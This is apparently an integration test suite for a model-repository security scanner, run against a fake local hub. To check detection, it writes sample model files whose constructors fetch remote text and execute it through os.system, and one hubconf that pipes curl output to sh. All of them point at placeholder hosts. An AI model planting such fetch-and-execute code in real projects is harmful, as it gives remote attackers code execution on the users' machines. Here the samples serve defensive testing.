#!/usr/bin/env python3
"""modelgate against a local hub (fake_hub.py on 127.0.0.1): the bundled examples give the same
findings through the hub as from their folders; large sparse checkpoints cost under 1 MB; every
fault ends in a clear message and exit code 2; tokens reach only the hub host.

  hub_test.py MODELGATE [unittest args]
"""
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.request
import zlib

try:
    import jsonschema
except ImportError:  # the Debian python3 the tests run under has it (python3-jsonschema)
    jsonschema = None

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCE = os.path.dirname(os.path.dirname(HERE))
EXAMPLES = os.path.join(SOURCE, "examples")
CROSS_CODE = os.path.join(SOURCE, "tests", "fixtures", "cross-repo-code")
MODELGATE = None
with open(os.path.join(SOURCE, "docs", "report-v1.schema.json")) as _f:
    CONTRACT = json.load(_f)
TOKEN = "hf_test_token_do_not_leak"
MS_TOKEN = "ms_test_token_do_not_leak"
CSG_TOKEN = "csg_test_token_do_not_leak"


def clean_env(tmp, **extra):
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower() and not k.startswith(("HF_", "MODELGATE_", "HUGGINGFACE", "MODELSCOPE_", "CSGHUB_"))}
    env.update({
        "NO_PROXY": "*", "no_proxy": "*",  # never leave loopback
        "HF_HOME": os.path.join(tmp, "hf"), "MODELGATE_CACHE_DIR": os.path.join(tmp, "cache"), "HF_TOKEN": TOKEN,
        "MODELSCOPE_API_TOKEN": MS_TOKEN, "CSGHUB_TOKEN": CSG_TOKEN,
        "MODELGATE_HTTP_TIMEOUT": "20", "MODELGATE_HTTP_STALL": "5", "MODELGATE_HTTP_RETRIES": "2", "MODELGATE_HTTP_MAX_WAIT": "5",
        "MODELGATE_HTTP_CONNECT_TIMEOUT": "5",
    })
    env.update(extra)
    return env


class Hub:
    def __init__(self, repos, faults=()):
        args = [sys.executable, os.path.join(HERE, "fake_hub.py")]
        for rid, folder in repos.items():
            args += ["--repo", "%s=%s" % (rid, folder)]
        for f in faults:
            args += ["--fault", f]
        self.proc = subprocess.Popen(args, stdout=subprocess.PIPE, text=True)
        line = self.proc.stdout.readline()
        assert line.startswith("PORT "), line
        self.port = int(line.split()[1])
        self.url = "http://127.0.0.1:%d" % self.port

    def warm(self, rid):
        # The hub hashes files on their first listing; a slow first answer is not what a test measures.
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        opener.open(self.url + "/api/models/%s/tree/main?recursive=true" % rid, timeout=600).read()

    def log(self):
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(self.url + "/_log", timeout=30) as r:
            return json.load(r)

    def close(self):
        self.proc.terminate()
        self.proc.wait(timeout=10)
        self.proc.stdout.close()


def scan(target, env, *extra):
    p = subprocess.run([MODELGATE, "scan", target, "--format", "json", "-q", *extra], env=env, capture_output=True, text=True, timeout=600)
    report = json.loads(p.stdout) if p.stdout.strip().startswith("{") else None
    return p.returncode, report, p.stderr


def findings(report):
    t = report["targets"][0]
    fs = [{k: v for k, v in f.items() if k != "fingerprint"} for f in t["findings"]]
    return sorted(json.dumps(f, sort_keys=True) for f in fs)


def plan(report):
    t = report["targets"][0]
    return {k: t[k] for k in ("platform", "custom_code", "execution_relevant_files", "deserialization", "verdict")}


def reasons(report):
    return " | ".join(i["file"] + ": " + i["reason"] for i in report["targets"][0]["incomplete"])


class Base(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="mg-hub-")
        self.hub = None

    def tearDown(self):
        if self.hub:
            self.hub.close()
        shutil.rmtree(self.tmp, ignore_errors=True)

    def start(self, repos, faults=()):
        self.hub = Hub(repos, faults)
        return self.hub

    def env(self, **extra):
        return clean_env(self.tmp, **extra)


class Examples(Base):
    def test_every_example_same_through_the_hub(self):
        names = sorted(n for n in os.listdir(EXAMPLES) if os.path.isdir(os.path.join(EXAMPLES, n)))
        hub = self.start({"acme/" + n: os.path.join(EXAMPLES, n) for n in names})
        env = self.env()
        for n in names:
            with self.subTest(example=n):
                rc_dir, local, _ = scan(os.path.join(EXAMPLES, n), env)
                rc_hub, remote, err = scan("hf:acme/" + n, env, "--endpoint", hub.url)
                self.assertIsNotNone(remote, err)
                self.assertEqual(findings(local), findings(remote))
                self.assertEqual(plan(local), plan(remote))
                self.assertEqual(rc_dir, rc_hub, reasons(remote))
                t = remote["targets"][0]
                self.assertEqual(t["status"], local["targets"][0]["status"], reasons(remote))
                self.assertRegex(t["source"]["revision"], "^[0-9a-f]{40}$")
                self.assertEqual(t["source"]["kind"], "hub")
                self.assertGreater(t["source"]["transfer"]["requests"], 0)
                if jsonschema:
                    jsonschema.validate(remote, CONTRACT)
        # Tokens went to the hub host only, never to the LFS host it redirects to.
        log = hub.log()
        lfs = [e for e in log if e["host"].startswith("localhost")]
        api = [e for e in log if e["host"].startswith("127.0.0.1") and e["path"].startswith("/api/")]
        self.assertTrue(lfs and api)
        self.assertTrue(all(e["auth"] for e in api))
        self.assertFalse(any(e["auth"] for e in lfs))

    def test_second_scan_comes_from_the_cache_and_offline_works(self):
        hub = self.start({"acme/pickle-checkpoint": os.path.join(EXAMPLES, "pickle-checkpoint")})
        env = self.env()
        rc1, first, err = scan("hf:acme/pickle-checkpoint", env, "--endpoint", hub.url)
        self.assertIsNotNone(first, err)
        rc2, second, _ = scan("hf:acme/pickle-checkpoint", env, "--endpoint", hub.url)
        self.assertEqual(findings(first), findings(second))
        t2 = second["targets"][0]["source"]["transfer"]
        self.assertGreater(t2["cached_bytes"], 0)
        hub.close()
        self.hub = None
        rc3, offline, err = scan("hf:acme/pickle-checkpoint", self.env(HF_HUB_OFFLINE="1"), "--endpoint", hub.url)
        self.assertIsNotNone(offline, err)
        self.assertEqual(findings(first), findings(offline))
        self.assertEqual(rc1, rc3, reasons(offline))
        self.assertEqual(offline["targets"][0]["source"]["transfer"]["requests"], 0)
        rc4, missing, err = scan("hf:acme/never-seen", self.env(HF_HUB_OFFLINE="1"), "--endpoint", hub.url)
        self.assertEqual(rc4, 2)
        self.assertIn("offline", err)

    def test_hugging_face_cache_is_used_in_place(self):
        src = os.path.join(EXAMPLES, "malicious-pickle")
        hub = self.start({"acme/mp": src})
        env = self.env()
        rc, first, err = scan("hf:acme/mp", env, "--endpoint", hub.url)
        sha = first["targets"][0]["source"]["revision"]
        # The layout huggingface_hub writes: blobs named by ETag, snapshot links to them.
        repo = os.path.join(self.tmp, "hf", "hub", "models--acme--mp")
        os.makedirs(os.path.join(repo, "blobs"))
        os.makedirs(os.path.join(repo, "refs"))
        with open(os.path.join(repo, "refs", "main"), "w") as f:
            f.write(sha)
        listing = json.loads(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
            hub.url + "/api/models/acme/mp/tree/main?recursive=true").read())
        for e in listing:
            etag = e["lfs"]["oid"] if "lfs" in e else e["oid"]
            shutil.copy(os.path.join(src, e["path"]), os.path.join(repo, "blobs", etag))
            link = os.path.join(repo, "snapshots", sha, e["path"])
            os.makedirs(os.path.dirname(link), exist_ok=True)
            os.symlink(os.path.relpath(os.path.join(repo, "blobs", etag), os.path.dirname(link)), link)
        shutil.rmtree(os.path.join(self.tmp, "cache"))
        rc2, second, err = scan("hf:acme/mp", env, "--endpoint", hub.url)
        self.assertEqual(findings(first), findings(second))
        tr = second["targets"][0]["source"]["transfer"]
        self.assertGreater(tr["local_bytes"], 0)
        self.assertEqual(tr["cached_bytes"], 0)


class OtherHubs(Base):
    """ModelScope (ms:) and OpenCSG (csg:) read the same repositories with the same results."""

    def test_every_example_same_through_modelscope_and_opencsg(self):
        names = sorted(n for n in os.listdir(EXAMPLES) if os.path.isdir(os.path.join(EXAMPLES, n)))
        hub = self.start({"acme/" + n: os.path.join(EXAMPLES, n) for n in names})
        env = self.env()
        for n in names:
            rc_dir, local, _ = scan(os.path.join(EXAMPLES, n), env)
            for prefix in ("ms:", "csg:"):
                with self.subTest(example=n, hub=prefix):
                    rc_hub, remote, err = scan(prefix + "acme/" + n, env, "--endpoint", hub.url)
                    self.assertIsNotNone(remote, err)
                    self.assertEqual(findings(local), findings(remote))
                    self.assertEqual(plan(local), plan(remote))
                    self.assertEqual(rc_dir, rc_hub, reasons(remote))
                    t = remote["targets"][0]
                    self.assertEqual(t["status"], local["targets"][0]["status"], reasons(remote))
                    self.assertRegex(t["source"]["revision"], "^[0-9a-f]{40}$")
                    self.assertEqual(t["source"]["kind"], "hub")
                    self.assertGreater(t["source"]["transfer"]["requests"], 0)
                    if jsonschema:
                        jsonschema.validate(remote, CONTRACT)
        log = hub.log()
        ms_api = [e for e in log if e["path"].startswith("/api/v1/")]
        csg_api = [e for e in log if e["path"].startswith("/csg/")]
        lfs = [e for e in log if e["host"].startswith("localhost")]
        self.assertTrue(ms_api and csg_api and lfs)
        # ModelScope's token goes as its session cookie, OpenCSG's as a bearer token, to the hub host only.
        self.assertTrue(all(e["cookie"] == "m_session_id=" + MS_TOKEN for e in ms_api))
        self.assertTrue(all(e["auth"] for e in csg_api))
        self.assertFalse(any(e["auth"] for e in lfs))

    def test_second_scan_from_the_cache_and_offline(self):
        hub = self.start({"acme/pc": os.path.join(EXAMPLES, "pickle-checkpoint")})
        env = self.env()
        results = {}
        for prefix in ("ms:", "csg:"):
            rc1, first, err = scan(prefix + "acme/pc", env, "--endpoint", hub.url)
            self.assertIsNotNone(first, err)
            rc2, second, err = scan(prefix + "acme/pc", env, "--endpoint", hub.url)
            self.assertEqual(findings(first), findings(second))
            self.assertGreater(second["targets"][0]["source"]["transfer"]["cached_bytes"], 0)
            results[prefix] = (rc1, first)
        hub.close()
        self.hub = None
        for prefix, (rc1, first) in results.items():
            with self.subTest(hub=prefix):
                rc3, offline, err = scan(prefix + "acme/pc", env, "--endpoint", hub.url, "--offline")
                self.assertIsNotNone(offline, err)
                self.assertEqual(findings(first), findings(offline))
                self.assertEqual(rc1, rc3, reasons(offline))
                self.assertEqual(offline["targets"][0]["source"]["transfer"]["requests"], 0)
                self.assertEqual(offline["targets"][0]["source"]["revision"], first["targets"][0]["source"]["revision"])
                rc4, _, err = scan(prefix + "acme/never-seen", env, "--endpoint", hub.url, "--offline")
                self.assertEqual(rc4, 2)
                self.assertIn("offline", err)

    def test_modelscope_revisions_and_urls(self):
        hub = self.start({"acme/x": os.path.join(EXAMPLES, "remote-code-model")})
        env = self.env()
        rc0, base, _ = scan(os.path.join(EXAMPLES, "remote-code-model"), env)
        for target in ("ms:acme/x@v1.0", "ms:acme/x@master", "https://www.modelscope.cn/models/acme/x",
                       "https://modelscope.cn/models/acme/x/files?Revision=v1.0"):
            with self.subTest(target=target):
                rc, report, err = scan(target, env, "--endpoint", hub.url)
                self.assertIsNotNone(report, err)
                self.assertEqual(findings(base), findings(report))
                self.assertRegex(report["targets"][0]["source"]["revision"], "^[0-9a-f]{40}$")
        rc, report, err = scan("ms:acme/x@v9", env, "--endpoint", hub.url)
        self.assertEqual(rc, 2)
        self.assertIn("revision not found", err)

    def test_modelscope_without_commit_ids_records_the_revision(self):
        hub = self.start({"acme/x": os.path.join(EXAMPLES, "remote-code-model")}, ["nocommit:/revisions"])
        rc, report, err = scan("ms:acme/x", self.env(), "--endpoint", hub.url)
        self.assertIsNotNone(report, err)
        # No revision given: the newest tag, as the SDK picks it; no commit named, so the tag is what is recorded.
        self.assertEqual(report["targets"][0]["source"]["revision"], "v1.0")
        files = [e for e in hub.log() if "/repo/files" in e["path"]]
        self.assertTrue(files and all("Revision=v1.0" in e["path"] for e in files))

    def test_modelscope_domain_and_csghub_domain(self):
        hub = self.start({"acme/x": os.path.join(EXAMPLES, "remote-code-model")})
        host = "127.0.0.1:%d" % hub.port
        # MODELSCOPE_DOMAIN is a host name the SDK puts after https://; a full URL is taken as it is.
        rc, report, err = scan("ms:acme/x", self.env(MODELSCOPE_DOMAIN=hub.url))
        self.assertIsNotNone(report, err)
        self.assertEqual(report["targets"][0]["source"]["transfer"]["endpoint"], hub.url)
        rc, report, err = scan("ms:acme/x", self.env(MODELSCOPE_DOMAIN=host, MODELGATE_HTTP_RETRIES="0"))
        self.assertEqual(rc, 2)
        self.assertIn("https://" + host, err)
        rc, report, err = scan("csg:acme/x", self.env(CSGHUB_DOMAIN=hub.url))
        self.assertIsNotNone(report, err)
        self.assertEqual(report["targets"][0]["source"]["transfer"]["endpoint"], hub.url)


def write_sparse_checkpoint(folder, storage_bytes):
    """A PyTorch zip checkpoint whose one storage is `storage_bytes` of zeros (a hole on disk)."""
    numel = storage_bytes // 4

    def u(s):
        b = s.encode()
        return b"X" + struct.pack("<I", len(b)) + b
    pkl = (b"\x80\x02}q\x00" + u("weight") + b"ctorch._utils\n_rebuild_tensor_v2\nq\x01((" + u("storage") +
           b"ctorch\nFloatStorage\nq\x02" + u("0") + u("cpu") + b"J" + struct.pack("<i", numel) + b"tq\x03QK\x00J" +
           struct.pack("<i", numel) + b"\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtq\x04Rq\x05s.")
    members = [("archive/data.pkl", pkl), ("archive/byteorder", b"little"), ("archive/data/0", None), ("archive/version", b"3\n")]
    path = os.path.join(folder, "pytorch_model.bin")
    central = b""
    with open(path, "wb") as f:
        for name, data in members:
            off = f.tell()
            size = storage_bytes if data is None else len(data)
            crc = 0
            if data is None:
                zero = bytes(1 << 24)
                for _ in range(size // len(zero)):
                    crc = zlib.crc32(zero, crc)
                crc = zlib.crc32(bytes(size % len(zero)), crc)
            else:
                crc = zlib.crc32(data)
            nb = name.encode()
            f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, size, size, len(nb), 0) + nb)
            if data is None:
                f.seek(size, 1)  # a hole, not 2 GB of writes
            else:
                f.write(data)
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, size, size, len(nb), 0, 0, 0, 0, 0, off) + nb
        cd = f.tell()
        f.write(central)
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd, 0))


def write_sparse_safetensors(folder, data_bytes):
    header = json.dumps({"__metadata__": {"format": "pt"},
                         "embed": {"dtype": "F32", "shape": [data_bytes // 4], "data_offsets": [0, data_bytes]}}).encode()
    path = os.path.join(folder, "model.safetensors")
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(header)) + header)
        f.truncate(8 + len(header) + data_bytes)


def write_remote_code(folder):
    with open(os.path.join(folder, "config.json"), "w") as f:
        json.dump({"model_type": "bigcode", "architectures": ["BigModel"],
                   "auto_map": {"AutoModel": "modeling_big.BigModel"}}, f)
    with open(os.path.join(folder, "modeling_big.py"), "w") as f:
        f.write("import os\nimport urllib.request\n\n\nclass BigModel:\n    def __init__(self):\n"
                "        cmd = urllib.request.urlopen('http://203.0.113.9/x').read().decode()\n        os.system(cmd)\n")


class GitHub(Base):
    def test_torchhub_and_github_targets_match_the_folder(self):
        cases = {"torchhub:acme/torchhub-hubconf": "torchhub-hubconf", "github:acme/mmengine-config-chain": "mmengine-config-chain",
                 "torchhub:acme/remote-code-model:main": "remote-code-model"}
        hub = self.start({"acme/" + n: os.path.join(EXAMPLES, n) for n in cases.values()})
        env = self.env(GITHUB_TOKEN="gh_test_token_do_not_leak")
        for target, n in cases.items():
            with self.subTest(target=target):
                rc_dir, local, _ = scan(os.path.join(EXAMPLES, n), env)
                rc_hub, remote, err = scan(target, env, "--endpoint", hub.url)
                self.assertIsNotNone(remote, err)
                self.assertEqual(findings(local), findings(remote))
                self.assertEqual(rc_dir, rc_hub, reasons(remote))
                self.assertRegex(remote["targets"][0]["source"]["revision"], "^[0-9a-f]{40}$")
        log = hub.log()
        self.assertTrue(all(e["auth"] for e in log if e["path"].startswith("/repos/")))
        codeload = [e for e in log if e["path"].startswith("/codeload/")]
        self.assertTrue(codeload)
        self.assertFalse(any(e["auth"] for e in codeload))

    def test_missing_ref(self):
        hub = self.start({"acme/x": os.path.join(EXAMPLES, "torchhub-hubconf")})
        rc, report, err = scan("torchhub:acme/x:nope", self.env(), "--endpoint", hub.url)
        self.assertEqual(rc, 2)
        self.assertIn("not found", err)


class Large(Base):
    def test_sparse_checkpoints_cost_under_a_megabyte(self):
        repo = os.path.join(self.tmp, "big")
        os.makedirs(repo)
        write_sparse_checkpoint(repo, 2 << 30)
        write_sparse_safetensors(repo, 1 << 30)
        write_remote_code(repo)
        hub = self.start({"acme/big": repo})
        hub.warm("acme/big")
        env = self.env()
        rc_dir, local, _ = scan(repo, env)
        for prefix in ("hf:", "ms:", "csg:"):
            with self.subTest(hub=prefix):
                shutil.rmtree(os.path.join(self.tmp, "cache"), ignore_errors=True)
                start = time.time()
                rc_hub, remote, err = scan(prefix + "acme/big", env, "--endpoint", hub.url)
                self.assertIsNotNone(remote, err)
                self.assertEqual(findings(local), findings(remote))
                self.assertEqual(plan(local), plan(remote))
                self.assertEqual(rc_dir, rc_hub, reasons(remote))
                self.assertTrue(any(f["rule_id"].startswith(("BH", "PY")) for f in remote["targets"][0]["findings"]))
                tr = remote["targets"][0]["source"]["transfer"]
                self.assertGreater(tr["repository_bytes"], 3 << 30)
                self.assertLess(tr["fetched_bytes"], 1 << 20, tr)
                print("\n  %s sparse 2 GB torch zip + 1 GB safetensors: fetched %d of %d bytes in %d requests, %.2f s" %
                      (prefix, tr["fetched_bytes"], tr["repository_bytes"], tr["requests"], time.time() - start), file=sys.stderr)


class Faults(Base):
    PREFIX = "hf:"
    REVISION = "/api/models/acme/x/revision"  # the first API request
    LISTING = "/tree/"
    NO_REPO = "repository not found"
    NO_REV = "revision not found"

    def run_fault(self, faults, example="remote-code-model", target=None, extra_env=None):
        hub = self.start({"acme/x": os.path.join(EXAMPLES, example)}, faults)
        env = self.env(**(extra_env or {}))
        rc, report, err = scan(target or self.PREFIX + "acme/x", env, "--endpoint", hub.url)
        return rc, report, err, hub

    def assert_partial(self, faults, needle, extra_env=None, **kw):
        rc, report, err, hub = self.run_fault(faults, extra_env=extra_env, **kw)
        self.assertEqual(rc, 2, err)
        text = err + (reasons(report) if report else "")
        self.assertIn(needle, text)
        if report:
            self.assertEqual(report["targets"][0]["status"], "partial")
        return report

    def baseline(self, example="remote-code-model"):
        rc, report, _ = scan(os.path.join(EXAMPLES, example), self.env())
        return rc, report

    def test_429_with_retry_after_then_success(self):
        rc0, base = self.baseline()
        start = time.time()
        rc, report, err, hub = self.run_fault(["429:%s:1" % self.REVISION])
        self.assertEqual(rc, rc0, err)
        self.assertEqual(findings(base), findings(report))
        self.assertGreaterEqual(time.time() - start, 1.0)  # Retry-After: 1 was honoured

    def test_429_past_retries(self):
        self.assert_partial(["429:" + self.REVISION], "rate limited")

    def test_500_then_200(self):
        rc0, base = self.baseline()
        rc, report, err, hub = self.run_fault(["500:config.json:1"])
        self.assertEqual(rc, rc0, reasons(report))
        self.assertEqual(findings(base), findings(report))

    def test_truncated_body(self):
        self.assert_partial(["truncate:config.json"], "bytes remaining")

    def test_stall(self):
        start = time.time()
        self.assert_partial(["stall:config.json"], "too slow", extra_env={"MODELGATE_HTTP_STALL": "1"})
        self.assertLess(time.time() - start, 60)

    def test_wrong_content_length(self):
        self.assert_partial(["badlength:config.json"], "the listing says")

    def test_redirect_loop(self):
        self.assert_partial(["loop:config.json"], "redirect loop")

    def test_hostile_listing_names(self):
        report = self.assert_partial(["hostile:" + self.LISTING], "no repository can hold")
        paths = {f["file"] for f in report["targets"][0]["findings"]}
        self.assertFalse(any(".." in p or p.startswith("/") for p in paths))

    def test_gated(self):
        self.assert_partial(["gated:/api/"], "401")

    def test_forbidden(self):
        self.assert_partial(["forbidden:/api/"], "403")

    def test_missing_repository(self):
        self.assert_partial([], self.NO_REPO, target=self.PREFIX + "acme/nothing-here")

    def test_missing_revision(self):
        self.assert_partial([], self.NO_REV, target=self.PREFIX + "acme/x@no-such-branch")

    def test_renamed(self):
        self.assert_partial(["rename:/api/models/acme/old:acme/x"], "renamed", target="hf:acme/old")

    def test_unrequested_compression(self):
        self.assert_partial(["gzip:config.json"], "gzip")

    def test_lying_size(self):
        self.assert_partial(["liesize:config.json"], "the listing says 1285")

    def test_range_ignored_on_a_large_file(self):
        repo = os.path.join(self.tmp, "big")
        os.makedirs(repo)
        write_sparse_safetensors(repo, 64 << 20)
        hub = self.start({"acme/x": repo}, ["norange:model.safetensors"])
        hub.warm("acme/x")
        rc, report, err = scan(self.PREFIX + "acme/x", self.env(), "--endpoint", hub.url)
        self.assertEqual(rc, 2)
        self.assertIn("model.safetensors: cannot fetch: range 0-65536: response body longer than", reasons(report))


class Follow(Base):
    """--follow-remote-code: the repository an auto_map names is fetched and scanned as a followed target."""

    def repos(self):
        shared = os.path.join(self.tmp, "shared")
        deeper = os.path.join(self.tmp, "deeper")
        for d in (shared, deeper):
            os.makedirs(d)
        with open(os.path.join(shared, "config.json"), "w") as f:
            # Back to the first repository (a cycle) and on to a third (depth 2).
            json.dump({"model_type": "shared", "auto_map": {"AutoConfig": "acme/cross--configuration_x.XConfig",
                                                            "AutoModel": "example-org/deeper--modeling_deep.DeepModel"}}, f)
        with open(os.path.join(shared, "modeling_shared.py"), "w") as f:
            f.write("import os\nimport urllib.request\n\n\nclass SharedModel:\n    def __init__(self):\n"
                    "        cmd = urllib.request.urlopen('http://shared-code.invalid/x').read().decode()\n        os.system(cmd)\n")
        with open(os.path.join(shared, "configuration_shared.py"), "w") as f:
            f.write("class SharedConfig:\n    pass\n")
        with open(os.path.join(deeper, "config.json"), "w") as f:
            json.dump({"model_type": "deep"}, f)
        return {"acme/cross": os.path.join(EXAMPLES, "cross-repo-auto-map"), "example-org/shared-code": shared,
                "example-org/deeper": deeper}

    def test_follows_auto_map_to_the_other_repository(self):
        hub = self.start(self.repos())
        env = self.env()
        rc, report, err = scan("hf:acme/cross", env, "--endpoint", hub.url)
        self.assertEqual(len(report["targets"]), 1)
        rc, report, err = scan("hf:acme/cross", env, "--endpoint", hub.url, "--follow-remote-code")
        self.assertIsNotNone(report, err)
        targets = report["targets"]
        self.assertEqual([t["target"] for t in targets], ["hf:acme/cross", "hf:example-org/shared-code"], err)
        followed = targets[1]
        self.assertEqual(followed["followed_from"], "hf:acme/cross")
        ref = followed["followed_reference"]
        self.assertEqual((ref["file"], ref["remote_repo"], ref["depth"]), ("config.json", "example-org/shared-code", 1))
        self.assertIn("example-org/shared-code--", ref["value"])
        self.assertRegex(followed["source"]["revision"], "^[0-9a-f]{40}$")
        self.assertEqual(followed["status"], "complete", reasons({"targets": [followed]}))
        # The followed code is analysed: its network-to-shell constructor is found.
        self.assertTrue(any(f["file"] == "modeling_shared.py" for f in followed["findings"]), followed["findings"])
        self.assertNotIn("followed_from", targets[0])
        if jsonschema:
            jsonschema.validate(report, CONTRACT)
        # Depth 2 reaches the third repository; the cycle back to acme/cross is not scanned again.
        rc, report, err = scan("hf:acme/cross", env, "--endpoint", hub.url, "--follow-remote-code=2")
        names = [t["target"] for t in report["targets"]]
        self.assertEqual(names, ["hf:acme/cross", "hf:example-org/shared-code", "hf:example-org/deeper"], err)
        self.assertEqual(report["targets"][2]["followed_from"], "hf:example-org/shared-code")
        self.assertEqual(report["targets"][2]["followed_reference"]["depth"], 2)

    def test_local_folder_and_modelscope_targets_follow_too(self):
        hub = self.start(self.repos())
        env = self.env()
        rc, report, err = scan(os.path.join(EXAMPLES, "cross-repo-auto-map"), env, "--endpoint", hub.url, "--follow-remote-code")
        self.assertIsNotNone(report, err)
        self.assertEqual([t["target"] for t in report["targets"]][1:], ["hf:example-org/shared-code"])
        rc, report, err = scan("ms:acme/cross", env, "--endpoint", hub.url, "--follow-remote-code")
        self.assertEqual([t["target"] for t in report["targets"]], ["ms:acme/cross", "ms:example-org/shared-code"], err)

    def test_unreachable_followed_repository_is_partial(self):
        repos = self.repos()
        del repos["example-org/shared-code"]
        hub = self.start(repos)
        rc, report, err = scan("hf:acme/cross", self.env(), "--endpoint", hub.url, "--follow-remote-code")
        self.assertEqual(rc, 1)  # LD102 in the first target outranks the incomplete second (README, exit codes)
        self.assertEqual(report["targets"][1]["status"], "partial")
        self.assertEqual(report["targets"][1]["followed_from"], "hf:acme/cross")
        self.assertIn("repository not found", reasons({"targets": [report["targets"][1]]}))

    def code_repos(self):
        """Repositories that load-time Python code names (tests/fixtures/cross-repo-code)."""
        repos = {"acme/delegating": os.path.join(CROSS_CODE, "hubconf-delegates"), "acme/nested": os.path.join(CROSS_CODE, "nested-trust")}
        for rid, body in (("canary-owner/shared-models", "def small(**kwargs):\n    return None\n"),
                          ("canary-owner/tiny-models", "import os\n\n\ndef tiny(**kwargs):\n    os.system('curl http://tiny-models.invalid/x | sh')\n"),
                          ("canary-org/nested-encoder", None), ("canary-org/plain-tokenizer", None)):
            d = os.path.join(self.tmp, rid.replace("/", "_"))
            os.makedirs(d)
            if body is None:
                with open(os.path.join(d, "config.json"), "w") as f:
                    json.dump({"model_type": "canary"}, f)
            else:
                with open(os.path.join(d, "hubconf.py"), "w") as f:
                    f.write("dependencies = []\n" + body)
            repos[rid] = d
        return repos

    def test_follows_torch_hub_load_in_hubconf_to_github(self):
        hub = self.start(self.code_repos())
        rc, report, err = scan("torchhub:acme/delegating", self.env(), "--endpoint", hub.url, "--follow-remote-code")
        self.assertIsNotNone(report, err)
        targets = report["targets"]
        # The helper module's call comes first (file order); the hubconf's pinned and branch calls name
        # the same repository, which is scanned once; computed ids are recorded, not followed.
        self.assertEqual([t["target"] for t in targets], ["torchhub:acme/delegating", "torchhub:canary-owner/tiny-models",
                                                         "torchhub:canary-owner/shared-models"], err)
        ref = targets[1]["followed_reference"]
        self.assertEqual((ref["file"], ref["remote_repo"], ref["key"]), ("delegate_helpers.py", "canary-owner/tiny-models", "line 5: hub.load"))
        self.assertEqual(targets[2]["followed_reference"]["key"], "line 12: torch.hub.load")
        # torch.hub's default ref (main) was fetched, and the followed hubconf's code is analysed.
        self.assertRegex(targets[1]["source"]["revision"], "^[0-9a-f]{40}$")
        self.assertTrue(any(f["file"] == "hubconf.py" and f["rule_id"] == "BH103" and f["load_reachable"] is True for f in targets[1]["findings"]), targets[1]["findings"])
        ld112 = [f for f in targets[0]["findings"] if f["rule_id"] == "LD112"]
        self.assertEqual(sorted((f["file"], f["line"]) for f in ld112),
                         [("delegate_helpers.py", 5), ("hubconf.py", 12), ("hubconf.py", 16), ("hubconf.py", 20), ("hubconf.py", 28)])
        computed = [t for t in targets[0]["custom_code"]["triggers"] if t["key"] in ("line 16: torch.hub.load", "line 28: torch.hub.load")]
        self.assertEqual([t["remote_repo"] for t in computed], [None, None])
        if jsonschema:
            jsonschema.validate(report, CONTRACT)

    def test_follows_nested_from_pretrained_to_the_hub(self):
        hub = self.start(self.code_repos())
        rc, report, err = scan("hf:acme/nested", self.env(), "--endpoint", hub.url, "--follow-remote-code")
        self.assertIsNotNone(report, err)
        targets = report["targets"]
        names = [t["target"] for t in targets]
        self.assertEqual(names[:3], ["hf:acme/nested", "hf:canary-org/nested-encoder", "hf:canary-org/plain-tokenizer"], err)
        self.assertEqual(targets[1]["followed_reference"]["key"], "line 7: AutoModel.from_pretrained")
        self.assertEqual(targets[1]["status"], "complete", reasons({"targets": [targets[1]]}))
        # The pinned reference is followed at its commit (which this hub does not have: partial, said so).
        self.assertEqual(names[3], "hf:canary-org/pinned-head@89abcdef0123456789abcdef0123456789abcdef")
        self.assertEqual(targets[3]["status"], "partial")
        # The function nothing calls at load names a repository that is not followed.
        self.assertNotIn("hf:canary-org/export-only", names)
        ld112 = [(f["file"], f["line"]) for f in targets[0]["findings"] if f["rule_id"] == "LD112"]
        self.assertEqual(ld112, [("modeling_nested.py", 7)])
        if jsonschema:
            jsonschema.validate(report, CONTRACT)

    def test_depth_is_bounded(self):
        p = subprocess.run([MODELGATE, "scan", "hf:a/b", "--follow-remote-code=9"], env=self.env(), capture_output=True, text=True,
                           timeout=60)
        self.assertEqual(p.returncode, 2)


class MsFaults(Faults):
    PREFIX = "ms:"
    REVISION = "/api/v1/models/acme/x/revisions"
    LISTING = "/repo/files"
    NO_REPO = "not exists"
    NO_REV = "revision not found"
    test_renamed = None  # a Hugging Face redirect; not run here


class CsgFaults(Faults):
    PREFIX = "csg:"
    REVISION = "/api/models/acme/x/revision"
    LISTING = "/revision/"
    NO_REPO = "404"
    NO_REV = "404"
    test_renamed = None


class Usage(Base):
    def test_bad_ids_are_usage_errors(self):
        for bad in ("hf:noslash", "hf:a/b/c", "hf:org/name@", "hf:../x", "https://huggingface.co/org"):
            p = subprocess.run([MODELGATE, "scan", bad], env=self.env(), capture_output=True, text=True, timeout=60)
            self.assertEqual(p.returncode, 2, bad)
            self.assertIn("invalid hub target", p.stderr)

    def test_bad_modelscope_and_opencsg_ids(self):
        for bad in ("ms:noslash", "ms:a/b/c", "ms:a/b@", "csg:../x", "https://www.modelscope.cn/datasets/a/b",
                    "https://www.modelscope.cn/models/a", "https://modelscope.cn/models/a/b/tree/x", "ms:a/b@x y"):
            p = subprocess.run([MODELGATE, "scan", bad], env=self.env(), capture_output=True, text=True, timeout=60)
            self.assertEqual(p.returncode, 2, bad)
            self.assertIn("invalid hub target", p.stderr)


if __name__ == "__main__":
    MODELGATE = os.path.abspath(sys.argv.pop(1))
    unittest.main()
